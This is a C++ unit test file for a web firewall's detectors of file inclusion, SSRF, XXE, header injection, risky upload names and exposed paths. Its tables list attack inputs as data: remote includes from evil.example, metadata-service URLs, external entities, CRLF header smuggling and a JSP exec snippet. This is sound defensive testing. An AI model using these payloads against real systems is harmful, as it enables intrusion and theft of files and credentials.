@@ -1,0 +1,186 @@
+// The analysers of addresses, files, XML, line ends and request paths: attacks and what only looks like them.
+#include <gtest/gtest.h>
+
+#include "detect/analyze/file_inclusion.h"
+#include "detect/analyze/file_upload.h"
+#include "detect/analyze/header_injection.h"
+#include "detect/analyze/hidden_path.h"
+#include "detect/analyze/ssrf.h"
+#include "detect/analyze/url_reader.h"
+#include "detect/analyze/xxe.h"
+#include "tests/detect/analyze/analyze_support.h"
+
+namespace wafd::detect {
+namespace {
+
+using namespace std::string_view_literals;
+
+struct Row {
+  std::string_view text;
+  const char* verdict;
+};
+
+constexpr Row kInclusion[] = {
+    {"php://filter/convert.base64-encode/resource=index.php", "low"},
+    {"PHP://input", "low"},
+    {"expect://id", "low"},
+    {"phar://a.jpg/x", "low"},
+    {"zip://a.jpg#x", "low"},
+    {"data://text/plain;base64,PD9waHA=", "balanced"},
+    {"data:text/plain,<?php", "balanced"},
+    {"file:///etc/passwd", "balanced"},
+    {"jar:http://evil.example/a.zip!/b", "balanced"},
+    {"ftp://evil.example/a.txt", "balanced"},
+    {"http://203.0.113.9/c.php", "balanced"},
+    {"http://evil.example/c.php?", "balanced"},
+    {"http://evil.example/c?", "strict"},
+    {"https://shop.example/return?a=b", "-"},
+    {"https://shop.example/index.php?id=3", "-"},
+    {"mailto:a@shop.example", "-"},
+    {"data:image/png;base64,iVBORw0KGgo=", "-"},
+    {"the file: a list", "-"},
+    {"note: see //cdn.example/x.js", "-"},
+};
+
+constexpr Row kSsrf[] = {
+    {"http://169.254.169.254/latest/meta-data/", "low"},
+    {"http://metadata.google.internal/computeMetadata/v1/", "low"},
+    {"http://2852039166/", "low"},
+    {"http://0xA9.0xFE.0xA9.0xFE/", "low"},
+    {"http://2130706433/", "balanced"},
+    {"http://0x7f.1/", "balanced"},
+    {"http://0177.0.0.1/", "balanced"},
+    {"http:0x7f000001", "balanced"},
+    {"gopher://127.0.0.1:6379/_INFO", "balanced"},
+    {"dict://shop.example:11211/stat", "balanced"},
+    {"http://good.example@evil.example/", "balanced"},
+    {"http://good.example%2f@evil.example/", "balanced"},
+    {"http://localhost/admin", "strict"},
+    {"http://10.0.0.1/", "strict"},
+    {"http://[::1]/", "strict"},
+    {"https://shop.example/a", "-"},
+    {"https://user@shop.example/a", "-"},
+    {"https://1.2.3.4/a", "-"},
+    {"https://shop.example:8443/a?b=http://c.example", "-"},
+};
+
+constexpr Row kXxe[] = {
+    {"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "low"},
+    {"<!ENTITY % b SYSTEM 'http://evil.example/x.dtd'>", "low"},
+    {"<!ENTITY % b \"x\">", "low"},
+    {"<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\">", "balanced"},
+    {"<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></a>", "balanced"},
+    {"<!ENTITY a 'x'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'><!ENTITY d '&c;&c;'>", "low"},
+    {"<!ENTITY copy '&#169;'>", "strict"},
+    {"<!DOCTYPE html>", "-"},
+    {"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
+     "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
+     "-"},
+    {"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
+     "-"},
+    {"<?xml version=\"1.0\"?><a><b>c</b></a>", "-"},
+};
+
+constexpr Row kHeaders[] = {
+    {"x\r\nSet-Cookie: a=b", "balanced"},     {"x\nLocation: //evil.example", "balanced"},
+    {"x\r\n\r\nHTTP/1.1 200 OK", "low"},      {"a@b.example\r\nBcc: c@d.example", "balanced"},
+    {"x\r\nGET /admin HTTP/1.1", "balanced"}, {"line one\nline two: yes", "-"},
+    {"Dear all\r\nto: be or not", "-"},       {"one\r\n\r\ntwo", "-"},
+};
+
+constexpr Row kFileNames[] = {
+    {"shell.php", "balanced"}, {"shell.pHtml", "balanced"}, {"a.jsp", "balanced"},
+    {"a.php.jpg", "low"},      {"a.php;.jpg", "low"},       {"a.php .jpg", "low"},
+    {"a.php...", "low"},       {"a.asp::$DATA", "low"},     {"a.php\0.png"sv, "low"},
+    {".htaccess", "low"},      {"web.config", "low"},       {"sess_abcdefghijklmnopqrst0123", "balanced"},
+    {"a.html", "strict"},      {"photo.jpg", "-"},          {"report.final.v2.pdf", "-"},
+    {"my.php notes", "-"},     {"archive.tar.gz", "-"},     {"Änderung.docx", "-"},
+};
+
+constexpr Row kPaths[] = {
+    {"/.git/config", "balanced"},
+    {"/.env", "balanced"},
+    {"/app/.env", "balanced"},
+    {"/.secret/config.json", "balanced"},
+    {"/index.php~", "balanced"},
+    {"/config.php.bak", "balanced"},
+    {"/backup.sql", "strict"},
+    {"/user/project/tree/main/.github/workflows", "strict"},
+    {"/.well-known/acme-challenge/x", "-"},
+    {"/a/b.min.js", "-"},
+    {"/releases/v1.0", "-"},
+    {"/", "-"},
+};
+
+template <std::size_t N>
+void expect_rows(const Analyzer& analyzer, const Row (&rows)[N], Location location = Location::kQuery,
+                 bool in_name = false) {
+  for (const Row& row : rows)
+    EXPECT_EQ(verdict_of(analyzer, row.text, location, in_name), row.verdict) << row.text;
+}
+
+TEST(AddressAndFile, Inclusion) { expect_rows(*make_file_inclusion_analyzer(), kInclusion); }
+TEST(AddressAndFile, Ssrf) { expect_rows(*make_ssrf_analyzer(), kSsrf); }
+TEST(AddressAndFile, Xxe) { expect_rows(*make_xxe_analyzer(), kXxe); }
+TEST(AddressAndFile, Headers) { expect_rows(*make_header_injection_analyzer(), kHeaders); }
+TEST(AddressAndFile, FileNames) {
+  expect_rows(*make_file_upload_analyzer(), kFileNames, Location::kFile, true);
+}
+TEST(AddressAndFile, HiddenPaths) { expect_rows(*make_hidden_path_analyzer(), kPaths, Location::kUrlPath); }
+
+TEST(AddressAndFile, FileNamesInHeaders) {
+  const auto analyzer = make_file_upload_analyzer();
+  EXPECT_EQ(verdict_of(*analyzer, "shell.php", Location::kHeader, false, "X-File-Name"), "balanced");
+  EXPECT_EQ(verdict_of(*analyzer, "shell.php", Location::kHeader, false, "Referer"), "-");
+}
+
+TEST(AddressAndFile, PageCodeInFiles) {
+  const auto analyzer = make_file_upload_analyzer();
+  EXPECT_EQ(verdict_of(*analyzer, "<%@ page import=\"java.io.*\" %>", Location::kFile), "low");
+  EXPECT_EQ(verdict_of(*analyzer, "<% Runtime.getRuntime().exec(\"id\"); %>", Location::kFile), "low");
+  EXPECT_EQ(verdict_of(*analyzer, "50<%60 and %>", Location::kFile), "-");
+}
+
+TEST(UrlReader, Hosts) {
+  struct HostRow {
+    const char* host;
+    bool bracketed;
+    HostKind kind;
+  };
+  constexpr HostRow kRows[] = {
+      {"shop.example", false, HostKind::kName},
+      {"8.8.8.8", false, HostKind::kPublic},
+      {"127.0.0.1", false, HostKind::kLoopback},
+      {"127.1", false, HostKind::kOdd},
+      {"10.1.2.3", false, HostKind::kPrivate},
+      {"172.20.0.1", false, HostKind::kPrivate},
+      {"169.254.1.1", false, HostKind::kLinkLocal},
+      {"169.254.169.254", false, HostKind::kMetadata},
+      {"0251.0376.0251.0376", false, HostKind::kMetadata},
+      {"2130706433", false, HostKind::kOdd},
+      {"::1", true, HostKind::kLoopback},
+      {"::ffff:127.0.0.1", true, HostKind::kLoopback},
+      {"::ffff:a9fe:a9fe", true, HostKind::kOdd},
+      {"fe80::1", true, HostKind::kLinkLocal},
+      {"127.0.0.1.nip.io", false, HostKind::kLoopback},
+      {"1.2.3.4.5", false, HostKind::kName},
+      {"", false, HostKind::kName},
+  };
+  for (const HostRow& row : kRows) EXPECT_EQ(host_kind(row.host, row.bracketed), row.kind) << row.host;
+}
+
+TEST(UrlReader, Parts) {
+  const auto url = read_url("jar:HTTP://u:p@h.example:81/a/b?c#d");
+  ASSERT_TRUE(url);
+  EXPECT_EQ(url->scheme, "jar:http");
+  EXPECT_EQ(url->user, "u:p");
+  EXPECT_EQ(url->host, "h.example");
+  EXPECT_EQ(url->path, "/a/b");
+  EXPECT_TRUE(url->has_query);
+  EXPECT_FALSE(read_url("no url"));
+  EXPECT_FALSE(read_url("//host/path"));
+  EXPECT_FALSE(read_url("12:30"));
+}
+
+}  // namespace
+}  // namespace wafd::detect
